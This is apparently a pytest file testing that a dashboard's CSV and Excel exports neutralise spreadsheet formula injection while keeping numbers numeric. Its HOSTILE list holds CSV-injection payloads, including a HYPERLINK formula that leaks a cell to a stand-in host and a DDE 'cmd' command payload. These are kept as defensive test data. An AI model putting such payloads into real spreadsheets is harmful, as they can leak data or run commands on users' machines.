"""Downloads cannot carry formulas: formula-looking text is made inert in CSV and Excel, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from dashboard.exports import csv_bytes, excel_bytes, neutralise_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "province": ["LA-AT"] * len(HOSTILE),
            "remark": HOSTILE,
            "value": [-2.5, -1.0, 0.0, 3.0, 4.5, -7.0],
        }
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_each_formula_trigger_gets_an_apostrophe(text):
    assert neutralise_cell(text) == "'" + text


def test_ordinary_text_and_numbers_are_left_alone():
    assert neutralise_cell("LA-AT") == "LA-AT"
    assert neutralise_cell("ນະຄອນຫຼວງວຽງຈັນ") == "ນະຄອນຫຼວງວຽງຈັນ"
    assert neutralise_cell(-2) == -2 and neutralise_cell(-2.5) == -2.5


def test_csv_cells_are_inert_and_negative_numbers_stay_numbers():
    data = csv_bytes(hostile_frame())
    assert data.startswith("\ufeff".encode())  # BOM: Excel then reads the Lao script as UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["province", "remark", "value"]
    assert [r[1] for r in rows[1:]] == ["'" + text for text in HOSTILE]
    assert [float(r[2]) for r in rows[1:]] == [-2.5, -1.0, 0.0, 3.0, 4.5, -7.0]
    assert [r[2] for r in rows[1:]][0] == "-2.5"  # no apostrophe on a number


def test_excel_has_no_formula_cell_and_keeps_the_text_with_its_apostrophe():
    book = openpyxl.load_workbook(io.BytesIO(excel_bytes(hostile_frame(), sheet_name="coverage")))
    sheet = book["coverage"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    remarks = [sheet.cell(row=r, column=2).value for r in range(2, 2 + len(HOSTILE))]
    assert remarks == ["'" + text for text in HOSTILE]
    values = [sheet.cell(row=r, column=3).value for r in range(2, 2 + len(HOSTILE))]
    assert values == [-2.5, -1, 0, 3, 4.5, -7]
    assert all(isinstance(v, (int, float)) for v in values)


def test_formula_looking_column_names_are_neutralised_too():
    frame = pd.DataFrame({"=1+1": [1], "value": [2]})
    assert csv_bytes(frame).decode("utf-8-sig").splitlines()[0] == "'=1+1,value"
    sheet = openpyxl.load_workbook(io.BytesIO(excel_bytes(frame))).active
    assert sheet["A1"].value == "'=1+1" and sheet["A1"].data_type == "s"


def _workbook_parts(data: bytes) -> dict[str, bytes]:
    """Every part of an .xlsx but its creation time."""
    book = zipfile.ZipFile(io.BytesIO(data))
    return {name: book.read(name) for name in book.namelist() if name != "docProps/core.xml"}


@pytest.mark.parametrize(
    "frame",
    [
        pd.DataFrame(
            {
                "province": ["Vientiane", "ຜົ້ງສາລີ", None, "", "=1+1"],
                "value": [1.5, float("nan"), float("inf"), -2.0, 0.0],
                "count": [1, 2, 3, 4, 5],
                "reached": [True, False, True, False, True],
                "persons": pd.array([1, None, 3, 4, 5], dtype="Int64"),
                2024: pd.array(["a", None, "b", "c", "d"], dtype="string"),
            }
        ),
        pd.DataFrame({"received": pd.to_datetime(["2022-01-01", None]), "rows": [1, 2]}),
        pd.DataFrame({"empty": []}),
    ],
    ids=["text, numbers, gaps, infinity, Lao, a number as column name", "dates (through pandas)", "no rows"],
)
def test_the_workbook_is_the_one_pandas_writes(frame):
    """Excel is written cell by cell (issue 13), and must stay pandas' own workbook: the same cells, types and gaps."""
    from dashboard.exports import _excel_bytes_by_pandas, neutralise

    assert _workbook_parts(excel_bytes(frame, "data")) == _workbook_parts(
        _excel_bytes_by_pandas(neutralise(frame), "data")
    )
